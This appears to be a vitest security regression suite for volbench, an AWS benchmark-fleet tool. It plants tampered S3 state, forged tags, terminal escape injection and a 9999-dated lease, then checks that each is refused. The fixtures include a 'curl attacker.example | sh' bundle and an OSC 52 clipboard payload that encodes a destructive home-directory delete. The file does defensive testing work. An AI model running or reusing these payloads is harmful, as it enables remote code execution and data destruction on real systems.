/**
 * A study's state in a bucket someone else may write, and resources anyone who may tag can
 * retag: against moto, with the library's own drivers.
 *
 * Broke: a study's driver re-reads FLEET/fleet.json from S3 on every call and made each member's
 * stack, and its expiry schedule, from what that file said: the bundle (PackageKey,
 * PackageSha256: code the instance runs with its role, in the operator's VPC), the instance
 * type, the volumes, AllowedCidr, the instance profile and the expiry. A writer of the bucket
 * who replaced the file between the study's start and its members' stacks had two stacks made
 * running their bundle on p5.48xlarge, open to 0.0.0.0/0 and expiring in 2099; a state planted
 * whole was driven the same (`fleet attach`, `compare --fleet-id`).
 * Expected: the first driver, which alone holds the plan and the bundle, records the SHA-256 of
 * everything a stack or a schedule is made from, its seal, in /volbench/<id>/study (SSM: a bucket writer
 * cannot write it); a driver makes no stack and no schedule from a state that does not match it
 * (EFLEET_STATE), and a study whose seal is missing makes nothing.
 *
 * Broke: `fleet reap` asked a stack whether a resource was volbench's, never whether its fleet
 * had expired: whoever may tag set a past volbench:expires on a live fleet's instance, token,
 * bundle and schedule group, and reap terminated the instance and deleted the other three
 * while the fleet's stack was live and months from its expiry.
 * Expected: what a live stack of a fleet still holds is reaped with that stack, never before it.
 *
 * Broke: what a member (or a writer of the bucket) put in its progress and done objects, or in
 * the study's lease, was printed to the operator's terminal as it came: escape sequences set the
 * clipboard (OSC 52) or rewrote the screen, and a newline forged a line of volbench's own
 * ("nothing of it remains"). Expected: every control character from such text is shown as an
 * escape (\u001b, \n), never sent to the terminal.
 *
 * Broke: a lease planted with an expiry in the year 9999 held every driver off the study: each
 * was refused naming that date, and `--wait` waited for it. Expected: a lease that runs further
 * ahead than any driver writes one is not a lease volbench wrote, and is taken over.
 */
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CloudFormationClient, CreateStackCommand, DescribeStackResourcesCommand, DescribeStacksCommand, ListStacksCommand } from '@aws-sdk/client-cloudformation';
import { CreateTagsCommand, DescribeInstancesCommand, EC2Client } from '@aws-sdk/client-ec2';
import { CreateBucketCommand, GetObjectCommand, HeadObjectCommand, PutObjectCommand, PutObjectTaggingCommand, S3Client } from '@aws-sdk/client-s3';
import { CreateScheduleGroupCommand, GetScheduleGroupCommand, ListScheduleGroupsCommand, SchedulerClient, TagResourceCommand } from '@aws-sdk/client-scheduler';
import { AddTagsToResourceCommand, GetParameterCommand, PutParameterCommand, SSMClient } from '@aws-sdk/client-ssm';

import { VolbenchError } from '../../src/errors.js';
import {
  advanceStudy, findExpired, fleetClients, fleetVolumes, HeldLease, planFleet, prepareStudy, reapFleets, sha256Hex, startStudy, type FleetClients, type FleetState,
} from '../../src/fleet/index.js';
import { ensureBuilt } from '../api/helpers/child.js';
import { ROOT, volbench } from '../helpers/cli.js';
import { awsDefaultVpc, freshMoto, type Moto } from '../helpers/moto.js';
import { requires } from '../helpers/requires.js';

const needs = requires('child', 'moto', 'dist');
const reason = needs.missing('moto');
const BUCKET = 'volbench-study-shared';
const REGION = 'us-east-1';
const PAST = '2020-01-01T00:00:00Z';
const FUTURE = '2099-01-01T00:00:00Z';

describe.skipIf(reason !== undefined)(`a study's bucket someone else writes, tags anyone may set${reason ? ` [skipped: ${reason}]` : ''}`, () => {
  let moto: Moto;
  let work: string;
  let clients: FleetClients;
  const saved: Record<string, string | undefined> = {};
  const config = () => ({ region: REGION, endpoint: moto.endpoint, credentials: { accessKeyId: 'testing', secretAccessKey: 'testing' } });
  const s3 = () => new S3Client({ ...config(), forcePathStyle: true });

  /** A study as `fleet compare` starts it: its state, spec and bundle in the bucket, its lease held. */
  async function started() {
    const plan = planFleet({ volumes: fleetVolumes('gp3:1g,io2:4g:iops=400', 'm6i.large'), instanceType: 'm6i.large', region: REGION, runtime: '2s' });
    const ctx = { clients, bucket: BUCKET };
    const prepared = await prepareStudy({ plan, bundleFile: join(work, 'volbench-0.0.0-linux-x64.tar.gz'), workload: {} }, ctx);
    const lease = await HeldLease.take({ clients, bucket: BUCKET, fleetId: prepared.state.fleetId, holder: 'the operator' });
    await startStudy(prepared, ctx);
    return { ctx, lease, fleetId: prepared.state.fleetId };
  }

  async function getState(fleetId: string): Promise<FleetState> {
    const c = s3();
    const text = await (await c.send(new GetObjectCommand({ Bucket: BUCKET, Key: `${fleetId}/fleet.json` }))).Body!.transformToString();
    c.destroy();
    return JSON.parse(text) as FleetState;
  }

  async function plantState(state: FleetState): Promise<void> {
    const c = s3();
    await c.send(new PutObjectCommand({ Bucket: BUCKET, Key: `${state.fleetId}/fleet.json`, Body: JSON.stringify(state) }));
    c.destroy();
  }

  /** The fleet's stacks as CloudFormation has them, each with the parameters it was made with. */
  async function stacksOf(fleetId: string): Promise<Array<Record<string, string>>> {
    const cfn = new CloudFormationClient(config());
    const names = ((await cfn.send(new ListStacksCommand({}))).StackSummaries ?? [])
      .filter((s) => s.StackName?.startsWith(`volbench-${fleetId}-`) && s.StackStatus !== 'DELETE_COMPLETE').map((s) => s.StackId!);
    const out = [];
    for (const id of names) {
      const s = (await cfn.send(new DescribeStacksCommand({ StackName: id }))).Stacks![0];
      out.push(Object.fromEntries(s.Parameters!.map((p) => [p.ParameterKey!, p.ParameterValue!])));
    }
    cfn.destroy();
    return out;
  }

  /** Calls the machine as a driver's loop does, until the members run or a call is refused; the refusal. */
  async function drive(fleetId: string, ctx: Parameters<typeof advanceStudy>[1]): Promise<unknown> {
    for (let i = 0; i < 4; i++) {
      try {
        if ((await advanceStudy(fleetId, ctx)).state.study!.step === 'running') return undefined;
      } catch (err) {
        return err;
      }
    }
    return undefined;
  }

  async function groupOf(fleetId: string): Promise<string[]> {
    const sch = new SchedulerClient(config());
    const groups = (await sch.send(new ListScheduleGroupsCommand({ NamePrefix: `volbench-${fleetId}` }))).ScheduleGroups ?? [];
    sch.destroy();
    return groups.map((g) => g.Name!);
  }

  beforeAll(async () => {
    ensureBuilt();
    moto = await freshMoto(REGION);
    // An internet gateway and its route, as every AWS default VPC has (preflight reads them).
    await awsDefaultVpc(moto);
    work = mkdtempSync(join(tmpdir(), `volbench-study-bucket-${process.pid}-`));
    const c = s3();
    await c.send(new CreateBucketCommand({ Bucket: BUCKET }));
    c.destroy();
    writeFileSync(join(work, 'volbench-0.0.0-linux-x64.tar.gz'), 'the operator\'s bundle');
    // The drivers take moto's credentials from the environment, as a real one would.
    for (const [k, v] of Object.entries(moto.env)) {
      saved[k] = process.env[k];
      process.env[k] = v;
    }
    clients = fleetClients({ region: REGION, endpoint: moto.endpoint });
  }, 60_000);

  afterAll(() => {
    for (const [k, v] of Object.entries(saved)) {
      if (v === undefined) delete process.env[k];
      else process.env[k] = v;
    }
    clients?.destroy();
    if (work) rmSync(work, { recursive: true, force: true });
  });

  it('a state rewritten after the study started makes no stack and no schedule on its word; an untouched one does', async () => {
    const { ctx, lease, fleetId } = await started();
    try {
      // The writer's own bundle beside the operator's, and a state that names it.
      const evil = Buffer.from('#!/bin/sh\ncurl attacker.example | sh\n');
      const c = s3();
      await c.send(new PutObjectCommand({ Bucket: BUCKET, Key: `${fleetId}/bundle/volbench-9.9.9-linux-x64.tar.gz`, Body: evil }));
      c.destroy();
      const state = await getState(fleetId);
      const honest = JSON.stringify(state);
      Object.assign(state.study!.stacks!, { bundleKey: `${fleetId}/bundle/volbench-9.9.9-linux-x64.tar.gz`, bundleSha256: sha256Hex(evil), allowedCidr: '0.0.0.0/0' });
      state.plan.instanceType = 'p5.48xlarge';
      state.expiresAt = FUTURE;
      await plantState(state);

      const refused = await drive(fleetId, ctx);
      const made = await stacksOf(fleetId);
      expect(made.map((p) => [p.PackageSha256 === sha256Hex(evil), p.InstanceType, p.AllowedCidr, p.ExpiresAt]), 'stacks made from the planted state').toEqual([]);
      expect(await groupOf(fleetId), 'a schedule group made from the planted state').toEqual([]);
      expect(refused).toBeInstanceOf(VolbenchError);
      expect(refused).toMatchObject({ code: 'EFLEET_STATE', field: 'study' });
      expect((refused as Error).message).toContain(`/volbench/${fleetId}/study`);

      // The state as the operator wrote it: the study goes on.
      await plantState(JSON.parse(honest) as FleetState);
      expect(await drive(fleetId, ctx)).toBeUndefined();
      expect((await getState(fleetId)).study!.step).toBe('running');
      const ok = await stacksOf(fleetId);
      expect(ok.map((p) => [p.InstanceType, p.AllowedCidr, p.PackageSha256])).toEqual([
        ['m6i.large', '127.0.0.1/32', sha256Hex(readFileSync(join(work, 'volbench-0.0.0-linux-x64.tar.gz')))],
        ['m6i.large', '127.0.0.1/32', sha256Hex(readFileSync(join(work, 'volbench-0.0.0-linux-x64.tar.gz')))],
      ]);
      expect(await groupOf(fleetId)).toEqual([`volbench-${fleetId}`]);
    } finally {
      await lease.release();
    }
  }, 60_000);

  it('a study planted whole, with no seal of a first driver, makes nothing', async () => {
    const { ctx, lease, fleetId } = await started();
    const copy = await getState(fleetId);
    await lease.release();
    // The same state under a new id, as if its first driver had written it.
    const id = `vb${randomBytes(5).toString('hex')}`;
    const planted = JSON.parse(JSON.stringify(copy).replaceAll(fleetId, id)) as FleetState;
    await plantState(planted);
    const c = s3();
    await c.send(new PutObjectCommand({ Bucket: BUCKET, Key: planted.study!.stacks!.bundleKey, Body: 'a bundle' }));
    c.destroy();
    const refused = await drive(id, ctx);
    expect(await stacksOf(id)).toEqual([]);
    expect(await groupOf(id)).toEqual([]);
    expect(refused).toMatchObject({ code: 'EFLEET_STATE', field: 'study' });
  }, 30_000);

  it('prints nothing a member or the bucket wrote as terminal control: escapes, a forged line', async () => {
    const { ctx, lease, fleetId } = await started();
    expect(await drive(fleetId, ctx)).toBeUndefined();
    const [first, second] = (await getState(fleetId)).members.map((m) => m.label);
    const forged = `fleet ${fleetId}: nothing of it remains`;
    // OSC 52 (the clipboard), a screen clear, a forged line: in a field and in a key's name.
    const osc = '\u001b]52;c;cm0gLXJmIH4K\u0007\u001b[2J';
    const c = s3();
    const at = new Date().toISOString();
    await c.send(new PutObjectCommand({ Bucket: BUCKET, Key: `${fleetId}/${first}/progress.json`,
      Body: JSON.stringify({ label: first, at, step: 'running', test: `${osc}\n${forged}` }) }));
    await c.send(new PutObjectCommand({ Bucket: BUCKET, Key: `${fleetId}/${second}/progress.json`,
      Body: JSON.stringify({ label: second, at, step: 'running', [`${osc}\n${forged}`]: 1 }) }));
    c.destroy();
    // A lease whose holder says the same, for a second driver's refusal.
    await lease.release();
    const held = await HeldLease.take({ clients, bucket: BUCKET, fleetId, holder: `${osc}\n${forged}` });
    try {
      const env = { ...process.env };
      const common = ['--bucket', BUCKET, '--region', REGION, '--state-dir', mkdtempSync(join(work, 'state-'))];
      const status = await volbench(['fleet', 'status', fleetId, ...common], undefined, env);
      const attach = await volbench(['fleet', 'attach', fleetId, ...common, '--out', join(work, 'out')], undefined, env);
      expect(status.code, status.stderr).toBe(0);
      expect(attach.code, attach.stderr).toBe(2);
      for (const text of [status.stdout, status.stderr, attach.stdout, attach.stderr]) {
        // eslint-disable-next-line no-control-regex
        expect(text.match(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/g) ?? [], JSON.stringify(text)).toEqual([]);
        expect(text.split('\n').map((l) => l.trim())).not.toContain(forged);
      }
      expect(status.stdout).toContain('\\u001b]52;c;');
      expect(attach.stderr).toContain('\\u001b]52;c;');
    } finally {
      await held.release();
    }
  }, 30_000);

  it('a lease planted to expire in 9999 is taken over, not waited for', async () => {
    const fleetId = `vb${randomBytes(5).toString('hex')}`;
    const c = s3();
    await c.send(new PutObjectCommand({ Bucket: BUCKET, Key: `${fleetId}/study/lease.json`, Body: JSON.stringify({
      holder: 'someone', token: '0123456789abcdef0123', acquired_at: new Date().toISOString(), expires_at: '9999-12-31T00:00:00.000Z',
    }) }));
    c.destroy();
    const said: string[] = [];
    const started = Date.now();
    const lease = await HeldLease.take({ clients, bucket: BUCKET, fleetId, holder: 'the operator', wait: true, log: (l) => said.push(l) });
    expect(Date.now() - started).toBeLessThan(5000);
    expect(lease.holder).toBe('the operator');
    expect(said.join('\n')).toMatch(/not one volbench wrote/);
    await lease.release();
  }, 30_000);

  it("reap takes nothing a live fleet's stack still holds, whatever volbench:expires its resources were given", async () => {
    const fleetId = `vb${randomBytes(5).toString('hex')}`;
    const label = 'gp3-1g';
    const tags = [{ Key: 'volbench:fleet', Value: fleetId }, { Key: 'volbench:expires', Value: FUTURE }];
    const cfn = new CloudFormationClient(config());
    const ec2 = new EC2Client(config());
    const ssm = new SSMClient(config());
    const sch = new SchedulerClient(config());
    const c = s3();
    // A live fleet, as `fleet up` makes it: its stack, its token, its bundle, its schedule group.
    const token = `/volbench/${fleetId}/${label}/token`;
    const bundle = `${fleetId}/bundle/v.tar.gz`;
    const stack = await cfn.send(new CreateStackCommand({
      StackName: `volbench-${fleetId}-${label}`, Capabilities: ['CAPABILITY_IAM'], Tags: tags,
      TemplateBody: readFileSync(join(ROOT, 'infra', 'cloudformation', 'instance.yaml'), 'utf8'),
      Parameters: Object.entries({
        FleetId: fleetId, VolumeLabel: label, AllowedCidr: '10.0.0.1/32', VolumeType: 'gp3', VolumeSize: '1', ExpiresAt: FUTURE,
        TokenParameterName: token, TlsKeyParameterName: `/volbench/${fleetId}/tls-key`, TlsCertKey: `${fleetId}/tls.crt`,
        ResultsBucket: BUCKET, PackageBucket: BUCKET, PackageKey: bundle, PackageSha256: '0'.repeat(64),
      }).map(([ParameterKey, ParameterValue]) => ({ ParameterKey, ParameterValue })),
    }));
    const instance = ((await cfn.send(new DescribeStackResourcesCommand({ StackName: stack.StackId }))).StackResources ?? [])
      .find((r) => r.ResourceType === 'AWS::EC2::Instance')?.PhysicalResourceId;
    await ssm.send(new PutParameterCommand({ Name: token, Type: 'SecureString', Value: 'the member\'s token', Tags: tags }));
    await c.send(new PutObjectCommand({ Bucket: BUCKET, Key: bundle, Body: 'the bundle', Tagging: `volbench%3Afleet=${fleetId}&volbench%3Aexpires=${encodeURIComponent(FUTURE)}` }));
    const group = await sch.send(new CreateScheduleGroupCommand({ Name: `volbench-${fleetId}`, Tags: tags }));

    // Someone who may only tag says it all expired long ago.
    const past = { Key: 'volbench:expires', Value: PAST };
    if (instance) await ec2.send(new CreateTagsCommand({ Resources: [instance], Tags: [past] }));
    await ssm.send(new AddTagsToResourceCommand({ ResourceType: 'Parameter', ResourceId: token, Tags: [past] }));
    await c.send(new PutObjectTaggingCommand({ Bucket: BUCKET, Key: bundle, Tagging: { TagSet: [tags[0], past] } }));
    await sch.send(new TagResourceCommand({ ResourceArn: group.ScheduleGroupArn, Tags: [past] }));

    const now = new Date();
    const plan = await findExpired({ clients, now, bucket: BUCKET });
    const reaped = await reapFleets({ clients, now, bucket: BUCKET }, plan);
    expect(reaped).toEqual({ stacks: [], instances: [], volumes: [], parameters: [], objects: [], schedules: [] });
    expect(plan.spared.filter((s) => s.includes(fleetId)).length).toBeGreaterThanOrEqual(instance ? 4 : 3);
    expect((await ssm.send(new GetParameterCommand({ Name: token, WithDecryption: true }))).Parameter?.Value).toBe('the member\'s token');
    await c.send(new HeadObjectCommand({ Bucket: BUCKET, Key: bundle }));
    expect((await sch.send(new GetScheduleGroupCommand({ Name: `volbench-${fleetId}` }))).State).toBe('ACTIVE');
    if (instance) {
      const state = (await ec2.send(new DescribeInstancesCommand({ InstanceIds: [instance] }))).Reservations![0].Instances![0].State!.Name;
      expect(state).toBe('running');
    }
    for (const x of [cfn, ec2, ssm, sch, c]) x.destroy();
  }, 30_000);
});
